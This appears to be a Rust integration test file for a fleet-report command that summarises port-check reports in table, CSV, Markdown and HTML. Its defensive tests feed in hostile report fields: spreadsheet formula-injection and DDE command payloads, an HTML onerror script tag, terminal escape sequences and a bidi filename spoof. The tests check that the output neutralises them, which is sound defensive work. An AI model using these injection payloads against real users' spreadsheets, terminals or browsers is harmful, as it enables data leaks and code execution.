//! `automate-ports fleet`: 50 reports from a mixed fleet (some with UDP 75 silent, some with
//! 443 blocked) and one corrupt file, in every format; the HTML pages (fleet and one machine)
//! rendered by a real browser, headless Chromium, which takes screenshots.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{json, Value};

use crate::util::{bin, run_json};

/// A real report from this binary, made into machine `i` of the fleet: 5 with 443 blocked,
/// 37 with UDP 75 silent, 8 that pass.
fn fleet_dir() -> tempfile::TempDir {
    let (_, template) = run_json(&mut crate::util::check_cmd(&[
        "--role",
        "agent",
        "--server",
        "127.0.0.1",
        "--timeout",
        "300ms",
    ]));
    let dir = tempfile::tempdir().unwrap();
    for i in 0..50 {
        let mut r = template.clone();
        r["hostname"] = json!(format!("pc-{i:02}"));
        r["agent"] =
            json!({"id": 1000 + i, "client_id": 7, "location_id": 1, "version": "240.150"});
        for c in r["checks"].as_array_mut().unwrap() {
            let (verdict, state, reason) = match (c["id"].as_str().unwrap(), i) {
                ("agent-https", 0..5) => ("fail", "filtered", "no answer in 2 s, 2 tries"),
                ("agent-https", _) => ("pass", "open", "ConnectWise Automate 240.150 answered"),
                ("agent-heartbeat", 0..42) => {
                    ("warn", "open|filtered", "no answer in 2 s, 2 tries")
                }
                ("agent-heartbeat", _) => ("pass", "open", "reply in 3 ms"),
                ("agent-tray", _) => ("pass", "open", "bound here and exchanged traffic"),
                _ => continue,
            };
            c["verdict"] = json!(verdict);
            c["state"] = json!(state);
            c["reason"] = json!(reason);
        }
        let sub = dir.path().join(format!("pc-{i:02}"));
        std::fs::create_dir_all(&sub).unwrap();
        std::fs::write(sub.join("report.json"), serde_json::to_vec(&r).unwrap()).unwrap();
    }
    std::fs::write(dir.path().join("broken.json"), b"{\"schema\": 1, not json").unwrap();
    // Schema 1, but not the published contract (its summary is gone).
    let mut thin = template.clone();
    thin.as_object_mut().unwrap().remove("summary");
    std::fs::write(
        dir.path().join("thin.json"),
        serde_json::to_vec(&thin).unwrap(),
    )
    .unwrap();
    dir
}

fn fleet(dir: &Path, format: &str) -> (i32, String) {
    let out = bin()
        .args(["fleet", "--format", format])
        .arg(dir)
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8(out.stdout).unwrap(),
    )
}

#[test]
fn fifty_machines_in_every_format() {
    let dir = fleet_dir();
    let (code, table) = fleet(dir.path(), "table");
    assert_eq!(code, 1, "machines fail:\n{table}");
    assert!(
        table.contains("50 machines: 5 failing, 37 with warnings, 8 passing; 2 file(s) skipped"),
        "{table}"
    );
    assert!(
        table
            .lines()
            .any(|l| l.split_whitespace().take(3).eq(["agent-https", "5", "0"])),
        "{table}"
    );
    assert!(
        table.contains("open|filtered on 42 of 50 machines: silent"),
        "{table}"
    );
    assert!(table.contains("broken.json: not JSON"), "{table}");
    assert!(
        table.contains(
            "thin.json: breaks schema/report-1.json at '': \"summary\" is a required property"
        ),
        "{table}"
    );
    assert!(
        table.contains("first problem agent-https (5): pc-00, pc-01, pc-02, pc-03, pc-04"),
        "{table}"
    );

    let (_, md) = fleet(dir.path(), "markdown");
    assert!(md.contains("| `agent-https` | 5 | 0 |"), "{md}");
    assert!(md.contains("| `agent-heartbeat` | 0 | 42 |"), "{md}");

    let (_, csv) = fleet(dir.path(), "csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let https = header.iter().position(|h| h == "agent-https").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 50);
    assert_eq!(rows.iter().filter(|r| &r[https] == "fail").count(), 5);
    assert_eq!(&rows[0][0], "pc-00", "worst first");
    assert_eq!(&rows[0][1], "1000", "the agent's ID");

    let (_, html) = fleet(dir.path(), "html");
    assert!(
        html.starts_with("<!DOCTYPE html>") && !html.contains("<script"),
        "self-contained"
    );
    assert_eq!(html.matches("<td class=\"fail\"").count(), 5);
    assert_eq!(html.matches("<td class=\"warn\"").count(), 42);

    // Every machine passing and no stray file: exit 0.
    let clean = tempfile::tempdir().unwrap();
    let good = dir.path().join("pc-49").join("report.json");
    std::fs::copy(good, clean.path().join("pc-49.json")).unwrap();
    assert_eq!(fleet(clean.path(), "table").0, 0);
}

/// A report written by someone hostile on a customer PC: formulas in the hostname, the reason
/// and the agent's version reach the CSV as text, never as a cell a spreadsheet evaluates.
#[test]
fn fleet_csv_cells_never_start_a_formula() {
    let (_, mut r) = run_json(&mut crate::util::check_cmd(&[
        "--role",
        "agent",
        "--server",
        "127.0.0.1",
        "--timeout",
        "300ms",
    ]));
    r["hostname"] = json!("=HYPERLINK(\"http://x/?\"&A1,\"click\")");
    for c in r["checks"].as_array_mut().unwrap() {
        c["verdict"] = json!("fail");
        c["reason"] = json!("+cmd|' /C calc'!A0");
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("evil.json"),
        serde_json::to_vec(&r).unwrap(),
    )
    .unwrap();
    let (_, csv) = fleet(dir.path(), "csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{csv}");
    assert!(rows[0][0].contains("HYPERLINK"), "{csv}");
    for cell in header.iter().chain(rows.iter().flat_map(|r| r.iter())) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} in {csv}"
        );
    }
}

/// The hostile folder of `a_folder_of_hostile_reports_is_read_safely_in_every_format`.
#[cfg(unix)]
fn hostile_folder() -> tempfile::TempDir {
    let (_, template) = run_json(&mut crate::util::check_cmd(&[
        "--role",
        "agent",
        "--server",
        "127.0.0.1",
        "--timeout",
        "300ms",
    ]));
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, report: &Value| {
        std::fs::write(dir.path().join(name), serde_json::to_vec(report).unwrap()).unwrap();
    };
    let mut escapes = template.clone();
    escapes["hostname"] = json!("\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[31mpc\u{202e}gnp.exe");
    for c in escapes["checks"].as_array_mut().unwrap() {
        c["verdict"] = json!("fail");
        c["reason"] =
            json!("<img src=x onerror=alert(1)> [click](http://x/) ![i](http://x/i.png)\rline");
    }
    write("escapes.json", &escapes);
    let mut formula = template.clone();
    formula["hostname"] = json!("=HYPERLINK(\"http://x/?\"&A1,\"click\")");
    write("formula.json", &formula);
    let mut many = template.clone();
    let check = many["checks"][0].clone();
    many["checks"] = Value::Array(
        (0..40_000)
            .map(|i| {
                let mut c = check.clone();
                c["id"] = json!(format!("c{i}"));
                c
            })
            .collect(),
    );
    many["schema"] = json!(2);
    write("many.json", &many);
    write(
        "wrong-types.json",
        &json!({"schema": 2, "tool": "automate-ports", "hostname": ["x"], "checks": [{"id": 5, "verdict": {}}]}),
    );
    let fifo = dir.path().join("fifo.json");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero.json")).unwrap();
    std::os::unix::fs::symlink(dir.path(), dir.path().join("loop")).unwrap();

    dir
}

/// Acceptance of issue 24: a folder of hostile reports (terminal escapes and a bidi override in
/// the hostname, Markdown and HTML in the reason, a formula, a FIFO, a link to /dev/zero, a link
/// back to the folder, 40,000 checks in one report, schema 2 with wrong types): every format
/// finishes in seconds, carries nothing active from the files, and lists the bad files with why.
#[cfg(unix)]
#[test]
fn a_folder_of_hostile_reports_is_read_safely_in_every_format() {
    let dir = hostile_folder();
    for format in ["table", "csv", "markdown", "html"] {
        let started = std::time::Instant::now();
        let out = bin()
            .args(["--color", "always", "fleet", "--format", format])
            .arg(dir.path())
            .timeout(std::time::Duration::from_secs(60))
            .output()
            .unwrap();
        let took = started.elapsed();
        // A CSV lists the files that were not reports on standard error.
        let text =
            String::from_utf8_lossy(&[out.stdout.as_slice(), &out.stderr].concat()).into_owned();
        assert!(took.as_secs() < 10, "{format}: {took:?}");
        assert_eq!(
            out.status.code(),
            Some(1),
            "{format}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        for active in ["\u{1b}]", "\u{1b}[2J", "\u{7}", "\u{202e}", "\r"] {
            assert!(!text.contains(active), "{format}: {active:?} in {text}");
        }
        for why in ["fifo.json", "zero.json", "loop", "wrong-types.json"] {
            assert!(text.contains(why), "{format}: {why} not listed: {text}");
        }
        assert!(text.contains("not a regular file"), "{format}: {text}");
        assert!(text.contains("a link: not followed"), "{format}: {text}");
        match format {
            "csv" => {
                for line in text.lines() {
                    for cell in line.split(',') {
                        let cell = cell.trim_start_matches('"');
                        assert!(!cell.starts_with(['=', '+', '-', '@', '\t']), "{cell:?}");
                    }
                }
            }
            "markdown" => {
                // The reason's tag and links are there as text, escaped.
                assert!(text.contains("\\<img src=x"), "{text}");
                assert_eq!(text.matches("<img").count(), text.matches("\\<img").count());
                assert!(!text.contains("[click]") && !text.contains("[i]"), "{text}");
            }
            "html" => assert!(!text.contains("<img"), "{text}"),
            _ => {}
        }
    }
}

/// Headless Chromium, or why not (CI installs it; AUTOMATE_PORTS_REQUIRE_LAB makes a missing
/// one a failure).
fn chromium() -> Option<&'static str> {
    let found = ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|c| crate::util::present(c));
    match found {
        Some(browser) => Some(browser),
        // One of them is enough: skipped (or failed) in the name of Debian's.
        None => crate::util::installed("chromium", "chromium").then_some("chromium"),
    }
}

/// A screenshot and the DOM of `page`, as a real browser renders it; the screenshot is kept
/// under target/screenshots/ to look at.
fn browse(browser: &str, page: &Path, shot: &str) -> (PathBuf, String) {
    let out_dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("screenshots");
    std::fs::create_dir_all(&out_dir).unwrap();
    let png = out_dir.join(shot);
    let url = format!("file://{}", page.display());
    let common = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--hide-scrollbars",
        "--no-first-run",
        // The page is a local file: no name is looked up, and Chromium's own background
        // traffic (updates, safe browsing) stays off, so nothing leaves this machine.
        "--host-resolver-rules=MAP * ~NOTFOUND",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-pings",
    ];
    let status = Command::new(browser)
        .args(common)
        .arg(format!("--screenshot={}", png.display()))
        .arg("--window-size=1400,1600")
        .arg(&url)
        .output()
        .unwrap();
    assert!(
        png.exists(),
        "no screenshot: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    let dom = Command::new(browser)
        .args(common)
        .arg("--dump-dom")
        .arg(&url)
        .output()
        .unwrap();
    (png, String::from_utf8_lossy(&dom.stdout).into_owned())
}

#[test]
fn the_pages_render_in_a_real_browser() {
    let Some(browser) = chromium() else {
        return;
    };
    let dir = fleet_dir();
    let (_, html) = fleet(dir.path(), "html");
    let page = dir.path().join("fleet.html");
    std::fs::write(&page, html).unwrap();
    let (png, dom) = browse(browser, &page, "fleet-50.png");
    // Not blank: a white page of this size compresses to a few KB; coloured cells do not.
    let size = std::fs::metadata(&png).unwrap().len();
    assert!(size > 30_000, "{} is {size} bytes: blank?", png.display());
    assert!(
        dom.contains("agent-https") && dom.contains("pc-00 (agent 1000)"),
        "{dom}"
    );
    assert!(dom.contains("open|filtered on 42 of 50 machines"));

    // One machine's run, as handed to a customer.
    let single = dir.path().join("single.html");
    let out = crate::util::check_cmd(&[
        "--role",
        "agent",
        "--server",
        "127.0.0.1",
        "--timeout",
        "300ms",
    ])
    .args(["--output"])
    .arg(format!("html:{}", single.display()))
    .output()
    .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let (png, dom) = browse(browser, &single, "single.png");
    assert!(std::fs::metadata(&png).unwrap().len() > 10_000);
    assert!(
        dom.contains("agent-https") && dom.contains("FAILED"),
        "{dom}"
    );
    let _ = Value::Null;
}
